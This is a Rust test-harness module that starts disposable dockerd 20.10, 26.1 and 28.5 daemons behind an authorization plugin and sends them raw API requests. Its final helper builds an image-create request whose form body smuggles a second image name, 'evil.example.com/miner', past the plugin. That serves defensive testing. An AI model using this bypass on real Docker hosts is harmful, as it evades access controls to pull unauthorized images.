//! A throwaway dockerd of either version under test, on its own data root,
//! exec root and socket, with its own managed containerd (started by dockerd
//! from the system's `containerd` on PATH), behind an authorization plugin.
//!
//! - 20.10: the system's `dockerd` (Debian 12's docker.io).
//! - 26.1: Debian 13's, unpacked by `.ci/docker26` into
//!   `$PORTCULLIS_DOCKER26_DIR` (default `/opt/portcullis-ci/docker-26`).
//!   It is given that directory's `docker-init` and `docker-proxy`
//!   explicitly, so nothing of the system's 20.10 install leaks in. Unlike
//!   25.0, it refuses API versions below 1.24 outright: its
//!   `DOCKER_MIN_API_VERSION` cannot go lower (`DOCKER_MIN_API_VERSION=1.12`
//!   makes it exit with "minimum supported API version is 1.24").
//!
//! - 28.5: Debian sid's, unpacked with its CLI and containerd 2.1 by
//!   `.ci/docker28` into `$PORTCULLIS_DOCKER28_DIR` (default
//!   `/opt/portcullis-ci/docker-28`). That directory comes first on its
//!   `PATH`, so the containerd it starts (managed, as the others) and that
//!   containerd's shim are 2.1's; runc stays the system's 1.1. It refuses
//!   API versions below 1.24, as 26.1 does.
//!
//! All run side by side with `--iptables=false --ip6tables=false
//! --bridge=none --storage-driver=vfs`: no host networking is touched and an
//! image needs no registry (`import_busybox`).

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

pub(crate) mod http;

use http::{Framing, Message};

/// The static busybox an image is made of.
pub const BUSYBOX: &str = "/bin/busybox";

/// The image every container is created from.
pub const IMAGE: &str = "mini:latest";

/// Which dockerd.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Version {
    /// Debian 12's docker.io 20.10 (API 1.12–1.41).
    V20_10,
    /// Debian 13's docker.io 26.1 (API 1.24–1.45).
    V26_1,
    /// Debian sid's docker.io 28.5 (API 1.24–1.51).
    V28_5,
}

impl Version {
    /// Every daemon under test, oldest first, in the order they are reported.
    pub const ALL: [Version; 3] = [Version::V20_10, Version::V26_1, Version::V28_5];

    /// `"20.10"`, `"26.1"` or `"28.5"`.
    pub fn label(self) -> &'static str {
        match self {
            Version::V20_10 => "20.10",
            Version::V26_1 => "26.1",
            Version::V28_5 => "28.5",
        }
    }

    /// The `/vX.Y` prefixes sent to this daemon (`""`: none). Versions it
    /// refuses are still sent once, to record the refusal.
    pub fn api_versions(self) -> &'static [&'static str] {
        match self {
            Version::V20_10 => &["", "1.12", "1.23", "1.24", "1.40", "1.41"],
            Version::V26_1 => &["", "1.12", "1.23", "1.24", "1.40", "1.41", "1.44", "1.45"],
            Version::V28_5 => &[
                "", "1.12", "1.23", "1.24", "1.40", "1.41", "1.44", "1.45", "1.50", "1.51",
            ],
        }
    }

    /// Whether the daemon applies `HostConfig` fields written at the top
    /// level of a create body: 20.10 and 26.1 decode the body into moby's
    /// `ContainerConfigWrapper`, which embeds a deprecated `HostConfig` at
    /// the top; from 27.0 on (so 28.5) the body is a `CreateRequest`, which
    /// reads only the nested `HostConfig` and ignores the rest.
    pub fn applies_top_level_host_config(self) -> bool {
        self != Version::V28_5
    }

    /// The directory `.ci/docker26` unpacks 26.1 into.
    pub fn docker26_dir() -> PathBuf {
        std::env::var_os("PORTCULLIS_DOCKER26_DIR")
            .map(PathBuf::from)
            .unwrap_or_else(|| PathBuf::from("/opt/portcullis-ci/docker-26"))
    }

    /// What `dockerd --version` says, for test output (which exact build ran).
    pub fn exact(self) -> String {
        Command::new(self.dockerd_binary())
            .arg("--version")
            .output()
            .map(|out| text(&out.stdout).trim().to_owned())
            .unwrap_or_else(|e| format!("unknown ({e})"))
    }

    /// The directory `.ci/docker28` unpacks 28.5 (daemon, CLI, containerd) into.
    pub fn docker28_dir() -> PathBuf {
        std::env::var_os("PORTCULLIS_DOCKER28_DIR")
            .map(PathBuf::from)
            .unwrap_or_else(|| PathBuf::from("/opt/portcullis-ci/docker-28"))
    }

    /// The private directory this daemon was unpacked into (`None`: the system's).
    fn private_dir(self) -> Option<PathBuf> {
        match self {
            Version::V20_10 => None,
            Version::V26_1 => Some(Version::docker26_dir()),
            Version::V28_5 => Some(Version::docker28_dir()),
        }
    }

    /// The `dockerd` binary.
    pub fn dockerd_binary(self) -> PathBuf {
        self.private_dir().map_or_else(
            || PathBuf::from("dockerd"),
            |dir| dir.join("usr/sbin/dockerd"),
        )
    }

    /// The docker CLI released with this daemon: the system's `docker` for
    /// 20.10 and 26.1 (whatever is first on `PATH`), 28.5's own for 28.5.
    pub fn own_cli(self) -> PathBuf {
        match self {
            Version::V28_5 => Version::docker28_dir().join("usr/bin/docker"),
            Version::V20_10 | Version::V26_1 => PathBuf::from("docker"),
        }
    }

    /// The `dockerd` binary and its version-specific flags and environment.
    fn command(self) -> Command {
        let mut command = Command::new(self.dockerd_binary());
        let Some(dir) = self.private_dir() else {
            return command;
        };
        command
            .arg(format!(
                "--init-path={}",
                dir.join("usr/bin/docker-init").display()
            ))
            .arg(format!(
                "--userland-proxy-path={}",
                dir.join("usr/sbin/docker-proxy").display()
            ))
            // The default, stated: 26.1 and 28.5 accept nothing lower.
            .env("DOCKER_MIN_API_VERSION", "1.24");
        if self == Version::V28_5 {
            // Its managed containerd (and that one's shim) come from PATH.
            let path = std::env::var_os("PATH").unwrap_or_default();
            let mut dirs = vec![dir.join("usr/bin")];
            dirs.extend(std::env::split_paths(&path));
            command.env(
                "PATH",
                std::env::join_paths(dirs).expect("PATH without ':' in its parts"),
            );
        }
        command
    }

    /// Whether this daemon and the `docker` CLI can run here; prints why
    /// not and returns false, except under `CI=true`, where it panics.
    pub fn available(self) -> bool {
        let cli = Command::new("sh")
            .args(["-c", "command -v docker"])
            .output()
            .is_ok_and(|o| o.status.success());
        let missing = match self.missing_prerequisite() {
            None if !cli => Some("the docker CLI is not installed (docker.io)".to_owned()),
            other => other,
        };
        match missing {
            None => true,
            Some(reason) => {
                assert!(
                    std::env::var("CI").as_deref() != Ok("true"),
                    "CI=true but cannot run against dockerd {}: {reason}",
                    self.label()
                );
                eprintln!("skipping dockerd {}: {reason}", self.label());
                false
            }
        }
    }

    /// Why this machine cannot run this daemon, if it cannot.
    pub fn missing_prerequisite(self) -> Option<String> {
        let uid = Command::new("id")
            .arg("-u")
            .output()
            .ok()
            .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_owned());
        if uid.as_deref() != Some("0") {
            return Some("not root (dockerd and /run/docker/plugins need root)".into());
        }
        if !Path::new(BUSYBOX).is_file() {
            return Some(format!(
                "{BUSYBOX} not found (apt-get install -y busybox-static)"
            ));
        }
        let install = match self {
            Version::V20_10 => "apt-get install -y docker.io",
            Version::V26_1 => "bash .ci/docker26",
            Version::V28_5 => "bash .ci/docker28",
        };
        let version = Command::new(self.dockerd_binary())
            .arg("--version")
            .output();
        // 28.5 is whatever 28.x sid has (`.ci/docker28` says which).
        let wanted = match self {
            Version::V28_5 => "Docker version 28.".to_owned(),
            _ => format!("Docker version {}.", self.label()),
        };
        match version {
            Ok(out) if String::from_utf8_lossy(&out.stdout).starts_with(&wanted) => None,
            Ok(out) => Some(format!(
                "dockerd {} not found, found {:?} ({install})",
                self.label(),
                String::from_utf8_lossy(&out.stdout).trim()
            )),
            Err(e) => Some(format!(
                "dockerd {} not runnable: {e} ({install})",
                self.label()
            )),
        }
    }
}

/// A throwaway dockerd; stopped (SIGTERM, then SIGKILL) and its state
/// removed on drop.
pub struct Dockerd {
    pub version: Version,
    child: Child,
    root: tempfile::TempDir,
}

impl Dockerd {
    /// Starts `version` with `--authorization-plugin=<plugin_name>` and waits
    /// until it answers `/_ping` (through the plugin).
    pub fn start(version: Version, plugin_name: &str) -> Dockerd {
        Dockerd::start_with_args(version, plugin_name, &[])
    }

    /// [`start`](Self::start) with `extra` flags after the usual ones, e.g. a
    /// TLS listener (`--tlsverify … --host=tcp://…`) beside the Unix socket,
    /// which stays the one `/_ping` is awaited on.
    pub fn start_with_args(version: Version, plugin_name: &str, extra: &[String]) -> Dockerd {
        Dockerd::start_in_new_root(version, Some(plugin_name), extra)
    }

    /// A daemon with no authorization plugin (to install one as a managed
    /// plugin, then [`restart`](Self::restart) behind it).
    pub fn start_without_plugin(version: Version) -> Dockerd {
        Dockerd::start_in_new_root(version, None, &[])
    }

    fn start_in_new_root(version: Version, plugin_name: Option<&str>, extra: &[String]) -> Dockerd {
        // Short paths: containerd's socket lives under the exec root.
        let root = tempfile::Builder::new()
            .prefix("pdiff")
            .tempdir_in("/tmp")
            .expect("tempdir");
        eprintln!("dockerd {}: {}", version.label(), version.exact());
        let child = spawn(version, root.path(), plugin_name, extra);
        let mut dockerd = Dockerd {
            version,
            child,
            root,
        };
        dockerd.wait_until_ready();
        dockerd
    }

    /// Stops the daemon and starts it again on the same data root, behind
    /// `plugin_name` (or none), with `extra` flags.
    pub fn restart(&mut self, plugin_name: Option<&str>, extra: &[String]) {
        self.stop();
        self.child = spawn(self.version, self.root.path(), plugin_name, extra);
        self.wait_until_ready();
    }

    /// Waits (90 s at most) until the daemon answers `/_ping`.
    fn wait_until_ready(&mut self) {
        let deadline = Instant::now() + Duration::from_secs(90);
        loop {
            if let Ok(ping) = self.request("GET", "/_ping", None)
                && ping.status() == 200
            {
                return;
            }
            if let Ok(Some(status)) = self.child.try_wait() {
                panic!(
                    "dockerd {} exited ({status}):\n{}",
                    self.version.label(),
                    self.log()
                );
            }
            assert!(
                Instant::now() < deadline,
                "dockerd {} not ready in 90 s:\n{}",
                self.version.label(),
                self.log()
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    /// SIGTERM, then SIGKILL after 30 s.
    fn stop(&mut self) {
        let pid = self.child.id().to_string();
        let _ = Command::new("kill").args(["-TERM", &pid]).status();
        let deadline = Instant::now() + Duration::from_secs(30);
        while Instant::now() < deadline && !matches!(self.child.try_wait(), Ok(Some(_))) {
            std::thread::sleep(Duration::from_millis(50));
        }
        if !matches!(self.child.try_wait(), Ok(Some(_))) {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }

    /// The daemon's API socket.
    pub fn socket(&self) -> PathBuf {
        self.root.path().join("docker.sock")
    }

    /// What the daemon logged so far.
    pub fn log(&self) -> String {
        std::fs::read_to_string(self.root.path().join("dockerd.log")).unwrap_or_default()
    }

    /// Sends raw request bytes and reads the response (30 s timeout).
    pub fn send(&self, raw: &[u8]) -> std::io::Result<Message> {
        http::exchange(&self.socket(), raw, Duration::from_secs(30))
    }

    /// A request with an optional JSON body framed with `Content-Length`.
    pub fn request(
        &self,
        method: &str,
        target: &str,
        body: Option<&[u8]>,
    ) -> std::io::Result<Message> {
        self.send(&http::request_bytes(method, target, body, Framing::Length))
    }

    /// Runs the daemon's own `docker` CLI ([`Version::own_cli`]) against it.
    pub fn docker(&self, args: &[&str]) -> Output {
        self.docker_cli(&self.version.own_cli(), args)
    }

    /// Runs the `docker` CLI at `cli` against this daemon (another
    /// release's CLI: API version negotiation).
    pub fn docker_cli(&self, cli: &Path, args: &[&str]) -> Output {
        Command::new(cli)
            .arg("--host")
            .arg(format!("unix://{}", self.socket().display()))
            .args(args)
            .output()
            .expect("run docker")
    }

    /// `GET target` as JSON; panics (with the daemon's log) unless 200.
    pub fn get_json(&self, target: &str) -> Value {
        let response = self
            .request("GET", target, None)
            .unwrap_or_else(|e| panic!("GET {target} on {}: {e}", self.version.label()));
        assert_eq!(
            response.status(),
            200,
            "GET {target} on {}: {}",
            self.version.label(),
            response.text()
        );
        serde_json::from_slice(&response.body).expect("JSON answer")
    }

    /// Imports a one-binary busybox image named [`IMAGE`] (no registry
    /// needed) through the raw API, as `docker import` does.
    pub fn import_busybox(&self) {
        self.import_busybox_as(IMAGE);
    }

    /// Imports the busybox image as `reference` (`name:tag`).
    pub fn import_busybox_as(&self, reference: &str) {
        let rootfs =
            (self.root.path()).join(format!("rootfs-{}", reference.replace([':', '/'], "_")));
        std::fs::create_dir_all(rootfs.join("bin")).expect("rootfs");
        std::fs::copy(BUSYBOX, rootfs.join("bin/busybox")).expect("copy busybox");
        for applet in ["sh", "true", "echo", "sleep"] {
            std::os::unix::fs::symlink("busybox", rootfs.join("bin").join(applet))
                .expect("applet link");
        }
        let tar = Command::new("tar")
            .arg("-C")
            .arg(&rootfs)
            .args(["-c", "."])
            .output()
            .expect("run tar");
        assert!(
            tar.status.success(),
            "tar: {}",
            String::from_utf8_lossy(&tar.stderr)
        );
        let (repo, tag) = reference.split_once(':').expect("name:tag");
        let head = format!(
            "POST /images/create?fromSrc=-&repo={repo}&tag={tag} HTTP/1.1\r\nHost: docker\r\nConnection: close\r\nContent-Type: application/x-tar\r\nContent-Length: {}\r\n\r\n",
            tar.stdout.len()
        );
        let mut raw = head.into_bytes();
        raw.extend_from_slice(&tar.stdout);
        let response = self.send(&raw).expect("import");
        assert!(
            response.status() == 200 && !response.text().contains("errorDetail"),
            "import on {}: {} {}",
            self.version.label(),
            response.status(),
            response.text()
        );
    }
}

impl Drop for Dockerd {
    fn drop(&mut self) {
        self.stop();
        // A stopped dockerd may leave its default network namespace mounted
        // at `exec/netns/default` (seen after these runs, not after an idle
        // daemon); unmount what is left so the root can be removed.
        let mounts = std::fs::read_to_string("/proc/mounts").unwrap_or_default();
        let root = self.root.path().to_string_lossy().into_owned();
        for point in mounts.lines().filter_map(|l| l.split(' ').nth(1)) {
            if point.starts_with(&root) {
                let _ = Command::new("umount").args(["-l", point]).status();
            }
        }
    }
}

/// Starts `version` on the data root, exec root, pid file, socket and log
/// in `root`, behind `plugin_name` if given. The log is appended to, so a
/// restart keeps what came before.
fn spawn(version: Version, root: &Path, plugin_name: Option<&str>, extra: &[String]) -> Child {
    let log = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(root.join("dockerd.log"))
        .expect("log file");
    let path = |name: &str| root.join(name);
    version
        .command()
        .args([
            "--iptables=false",
            "--ip6tables=false",
            "--bridge=none",
            "--storage-driver=vfs",
        ])
        .arg(format!("--data-root={}", path("data").display()))
        .arg(format!("--exec-root={}", path("exec").display()))
        .arg(format!("--pidfile={}", path("docker.pid").display()))
        .arg(format!("--host=unix://{}", path("docker.sock").display()))
        .args(plugin_name.map(|name| format!("--authorization-plugin={name}")))
        .args(extra)
        .stdin(Stdio::null())
        .stdout(log.try_clone().expect("log file"))
        .stderr(log)
        .spawn()
        .unwrap_or_else(|e| panic!("spawn dockerd {}: {e}", version.label()))
}

/// Runs `scenario` on every dockerd version that can run here, in turn
/// (a missing one is skipped, or fails the test under `CI=true`).
pub fn on_every_daemon(scenario: fn(Version)) {
    for version in Version::ALL {
        if version.available() {
            scenario(version);
        }
    }
}

/// Runs `scenario` on every daemon version available here, side by side.
pub fn on_every_daemon_side_by_side(scenario: fn(Version)) {
    let versions: Vec<Version> = Version::ALL.into_iter().filter(|v| v.available()).collect();
    std::thread::scope(|scope| {
        for version in versions {
            std::thread::Builder::new()
                .name(format!("dockerd {}", version.label()))
                .spawn_scoped(scope, move || scenario(version))
                .expect("spawn a scenario thread");
        }
    });
}

/// A command's output as text, for messages and comparisons.
pub fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Whether the docker CLI run with `args` failed as it does for any daemon
/// error (exit status 125 for `docker run`, 1 otherwise) and printed
/// `line` exactly (after the `docker: ` prefix `run` adds).
pub fn cli_failed_with(args: &[&str], output: &Output, line: &str) -> bool {
    let status = if args.first() == Some(&"run") { 125 } else { 1 };
    output.status.code() == Some(status)
        && String::from_utf8_lossy(&output.stderr)
            .lines()
            .any(|printed| printed.strip_prefix("docker: ").unwrap_or(printed) == line)
}

/// A raw `POST /v1.41/images/create?fromImage=mini` whose form-encoded body
/// names another image: Go's `ParseForm` puts the body's value first, and
/// Docker never forwards such a body to a plugin.
pub fn form_body_image_create() -> Vec<u8> {
    let form = b"fromImage=evil.example.com%2Fminer";
    let mut raw = format!(
        "POST /v1.41/images/create?fromImage=mini HTTP/1.1\r\nHost: docker\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n",
        form.len()
    )
    .into_bytes();
    raw.extend_from_slice(form);
    raw
}
